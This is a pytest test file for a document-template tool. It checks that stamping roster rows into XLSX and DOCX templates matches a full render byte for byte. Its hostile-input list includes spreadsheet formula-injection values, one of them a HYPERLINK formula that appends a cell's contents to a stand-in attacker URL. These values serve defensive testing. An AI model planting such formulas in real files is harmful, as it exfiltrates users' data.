"""Stamping rows into a prepared template gives the full render's bytes, or renders."""

import datetime as dt
import json
import random
import re
import unicodedata
from pathlib import Path

import pytest

from perftemplates.cli import main
from perftemplates.errors import InputError
from perftemplates.render import stamp as st
from perftemplates.roster import Roster, RosterOptions
from perftemplates.templates import Template, builtin_templates, find_template, render

AS_OF = dt.date(2026, 7, 1)
CASES = Path(__file__).parent / "data" / "cases"
FORMATS = ("xlsx", "docx")


def _stamped(template_id: str, fmt: str, rows: list[dict[str, str]]) -> list[bool]:
    """Run the rows through one Stamper; assert each file equals its full render.

    A neutral row like the first is seen before, so the rows' context is prepared
    by the first of them.
    Returns, for each row, whether it was stamped (False: it fell back).
    """
    template = find_template(template_id)
    stamper = st.Stamper()
    keys = st.text_keys(template)
    if rows:
        primer = {k: f"Primer {k}" if k in keys else v for k, v in rows[0].items()}
        stamper.render(template, "blank", fmt, AS_OF, primer)
    flags = []
    for overrides in rows:
        before = stamper.stamped
        data = stamper.render(template, "blank", fmt, AS_OF, overrides)
        assert data == render(template, "blank", fmt, AS_OF, overrides), overrides
        flags.append(stamper.stamped > before)
    return flags


def _roster(case: str, template_id: str, **options) -> list[dict[str, str]]:
    template = find_template(template_id)
    roster = Roster(CASES / case, template.blueprint, RosterOptions(**options))
    return [row.overrides for row in roster.rows() if not row.problems]


# The built-in templates


@pytest.mark.parametrize("fmt", FORMATS)
def test_okr_rows_are_stamped_to_the_render_bytes(fmt):
    rows = [{"team": f"Team {n:05d}", "owner": f"Owner {n}"} for n in range(8)]

    assert _stamped("okr", fmt, rows) == [True] * 8


@pytest.mark.parametrize("fmt", FORMATS)
def test_mbo_rows_sharing_their_numbers_are_stamped(fmt):
    rows = [
        {
            "employee": f"Employee {n}",
            "role": "Analyst",
            "manager": "Mia Example",
            "base_salary": "50000",
        }
        for n in range(6)
    ]

    assert _stamped("mbo", fmt, rows) == [True] * 6


@pytest.mark.parametrize("fmt", FORMATS)
def test_mbo_rows_with_their_own_numbers_are_stamped(fmt):
    salaries = ["50000", "61250.5", "0", "1e6", "72000.125", "99999999"]
    bonuses = ["0.1", "0.125", "0", "2", "15%", "0.075"]
    rows = [
        {
            "employee": f"Employee {n}",
            "role": "Analyst",
            "base_salary": salary,
            "target_bonus_pct": bonus,
        }
        for n, (salary, bonus) in enumerate(zip(salaries, bonuses, strict=True))
    ]

    assert _stamped("mbo", fmt, rows) == [True] * 6


def test_a_blank_number_is_stamped_in_a_workbook_only():
    rows = [{"employee": "Ana", "base_salary": ""}]

    assert _stamped("mbo", "xlsx", rows) == [True]
    # A blank form prints nothing for it: no text to put in place of the sentinel.
    assert _stamped("mbo", "docx", rows) == [False]


def test_a_number_a_chart_plots_is_rendered_in_full_in_a_workbook():
    # The cap sets the what-if steps, which the payout chart plots and caches.
    rows = [{"employee": "Ana", "achievement_cap": "2"}]

    assert _stamped("mbo", "xlsx", rows) == [False]
    assert _stamped("mbo", "docx", rows) == [True]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_number_out_of_bounds_gives_the_render_error(fmt):
    template = find_template("mbo")
    stamper = st.Stamper()
    row = {"employee": "Ana", "base_salary": "50000"}
    stamper.render(template, "blank", fmt, AS_OF, row)
    stamper.render(template, "blank", fmt, AS_OF, row)

    with pytest.raises(InputError) as stamped:
        stamper.render(template, "blank", fmt, AS_OF, row | {"base_salary": "-5"})

    with pytest.raises(InputError) as rendered:
        render(template, "blank", fmt, AS_OF, row | {"base_salary": "-5"})
    assert str(stamped.value) == str(rendered.value)
    assert "base_salary" in str(stamped.value)


def _number_choices(item, rng: random.Random) -> str:
    """A value for a number field within its bounds, often at one of them."""
    low = item.min if item.min is not None else -1000
    high = item.max if item.max is not None else 1_000_000
    value = rng.choice([low, high, (low + high) / 2, rng.uniform(low, high)])
    return str(round(value)) if item.type == "integer" else repr(value)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("template_id", [t.id for t in builtin_templates()])
def test_random_numbers_stamp_to_the_render_bytes(fmt, template_id):
    template = find_template(template_id)
    items = {item.key: item for item in st._inputs(template, standard=False)}
    rng = random.Random(f"{template_id}-{fmt}")
    stamper = st.Stamper()
    outcomes = []
    for n in range(6):
        keys = rng.sample(sorted(st.number_keys(template)), k=2)
        row = {"team": f"Team {n}"} | {
            key: _number_choices(items[key], rng) for key in keys
        }
        for _ in range(2):
            try:
                expected = render(template, "blank", fmt, AS_OF, row)
            except InputError as error:
                with pytest.raises(InputError, match=re.escape(str(error))):
                    stamper.render(template, "blank", fmt, AS_OF, row)
                outcomes.append("refused")
                continue
            before = stamper.stamped
            assert stamper.render(template, "blank", fmt, AS_OF, row) == expected, row
            outcomes.append("stamped" if stamper.stamped > before else "rendered")

    # Each row is made twice: the second is stamped unless a number cannot be
    # (a chart plots it, a form prints it as digits found elsewhere).
    assert "stamped" in outcomes, outcomes


# The hostile rosters


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("case", "rows", "rendered"),
    [
        ("teams-formula-text.csv", 5, 0),
        # The decomposed (NFD) name is written composed: rendered in full.
        ("teams-unicode.csv", 6, 1),
        # The blank team's row stamps only the owner: a context seen once.
        ("teams-unsafe-names.csv", 12, 1),
        ("teams-bom.csv", 2, 0),
    ],
)
def test_hostile_team_rosters_are_stamped_to_the_render_bytes(
    fmt, case, rows, rendered
):
    overrides = _roster(case, "okr")

    flags = _stamped("okr", fmt, overrides)

    assert len(flags) == rows
    assert flags.count(False) == rendered


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_employee_rosters_give_the_render_bytes(fmt):
    overrides = _roster("employees-semicolon.csv", "mbo", decimal=",")
    overrides += _roster("employees-bad-rows.csv", "mbo")

    flags = _stamped("mbo", fmt, overrides)

    # Salaries and bonus percents are stamped with their formulas' results; the
    # rows with a bad number are not among the overrides.
    assert flags == [True] * 5


NFD = unicodedata.normalize("NFD", "Équipe Müller")
# (team value, stamped in xlsx, stamped in docx)
VALUES = [
    ("Smith & Sons <Ltd>", True, True),
    ("A && B > C", True, True),
    ("Say \"hi\" & 'bye'", True, True),
    ("=1+1", True, True),
    ('=HYPERLINK("http://evil.invalid/?d="&A1,"Open")', True, True),
    ("@SUM(1,1)", True, True),
    ("فريق المبيعات", True, True),
    ("🚀 Launch Squad", True, True),
    ("]]> & <![CDATA[", True, True),
    ("{# a comment #}", True, True),
    ("Zero\u200bwidth", True, True),
    ("N " * 70 + "N", True, True),
    # Writers serialise these otherwise: whitespace, breaks, escapes, markers.
    (NFD, False, False),
    (" leading", False, False),
    ("trailing ", False, False),
    ("tab\there", False, False),
    ("line\nbreak", False, False),
    ("carriage\rreturn", False, False),
    ("_x0041_", False, False),
    ("<r>rich</r>", False, False),
    ("{{ company.name }}", False, False),
    ("marker \ue000", False, False),
    ("x" * 400, False, False),
    # A word longer than the probe's: a column's width might follow it.
    ("N" * 150, False, False),
    # Equal to another string of the workbook: XlsxWriter shares its index.
    ("Team", False, True),
    ("Company", False, True),
    ("Owner", False, True),
]


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_values_stamp_or_fall_back_as_they_must(fmt):
    rows = [{"team": value, "owner": "Ana Example"} for value, _, _ in VALUES]
    expected = [xlsx if fmt == "xlsx" else docx for _, xlsx, docx in VALUES]

    flags = _stamped("okr", fmt, rows)

    assert flags == expected
    assert flags.count(False) == (15 if fmt == "xlsx" else 12)


def test_two_keys_with_one_value_fall_back_in_a_workbook():
    rows = [{"team": "Same", "owner": "Same"}, {"team": "Alpha", "owner": "Beta"}]

    assert _stamped("okr", "xlsx", rows) == [False, True]
    assert _stamped("okr", "docx", rows) == [True, True]


def test_an_empty_value_is_rendered_in_full():
    assert _stamped("okr", "xlsx", [{"team": "", "owner": "Ana"}]) == [False]


# Keys that must never be stamped


def test_a_key_a_formula_refers_to_is_never_stamped():
    template = find_template("eos-vto")

    prepared = st.prepare(template, "blank", "xlsx", AS_OF, {}, ("unique_1",))

    assert prepared is None
    rows = [{"team": "Ops", "unique_1": f"Fast {n}"} for n in range(3)]
    assert _stamped("eos-vto", "xlsx", rows) == [False] * 3


def test_a_key_in_a_worksheet_header_is_never_stamped():
    # The company is in every sheet's header, where '&' is written '&&'.
    template = find_template("okr")

    assert st.prepare(template, "blank", "xlsx", AS_OF, {}, ("company",)) is None
    assert st.prepare(template, "blank", "docx", AS_OF, {}, ("company",)) is not None


def test_choices_numbers_and_parameters_are_not_stamp_keys():
    keys = st.text_keys(find_template("okr"))

    assert keys == {"company", "team", "owner"}


@pytest.mark.parametrize(
    "title",
    ["{% if team %}Ours{% endif %}", "{{ team | upper }}", "{{ team[:3] }}"],
)
def test_a_key_blueprint_text_tests_or_filters_is_never_stamped(title):
    okr = find_template("okr")
    blueprint = okr.blueprint.model_copy(update={"title": title})

    keys = st.text_keys(Template(okr.path, blueprint))

    assert keys == {"company", "owner"}


def test_a_key_printed_plainly_stays_a_stamp_key():
    okr = find_template("okr")
    blueprint = okr.blueprint.model_copy(update={"title": "{{ team }} OKRs"})

    assert st.text_keys(Template(okr.path, blueprint)) == {"company", "team", "owner"}


def test_a_placeholder_inside_a_tag_is_refused():
    assert st._in_text(b"<t>\xee\x80\x80x</t>", b"\xee\x80\x80x")
    assert not st._in_text(b'<a b="\xee\x80\x80x"/>', b"\xee\x80\x80x")


# Through the batch command


@pytest.mark.parametrize("fmt", FORMATS)
def test_batch_files_are_the_render_bytes(tmp_path, fmt):
    roster = tmp_path / "teams.csv"
    names = ["Alpha", "Smith & Sons <Ltd>", "Team", "Ops – Nord", "Beta", "=1+1"]
    roster.write_text(
        "Team,Owner\n" + "".join(f'"{n}",Ana Example\n' for n in names),
        encoding="utf-8",
    )
    out = tmp_path / "out"

    try:
        main(
            ["batch", "okr", "--roster", str(roster), "--out", str(out)]
            + ["--format", fmt, "--workers", "1", "--quiet", "--as-of", "2026-07-01"]
        )
    except SystemExit as exit_:
        assert exit_.code in (0, None)

    template = find_template("okr")
    entries = json.loads((out / "manifest.json").read_text(encoding="utf-8"))["files"]
    assert [entry["status"] for entry in entries] == ["written"] * len(names)
    for entry in entries:
        overrides = {"team": names[entry["row"] - 2], "owner": "Ana Example"}
        expected = render(template, "blank", fmt, AS_OF, overrides)
        assert (out / entry["file"]).read_bytes() == expected
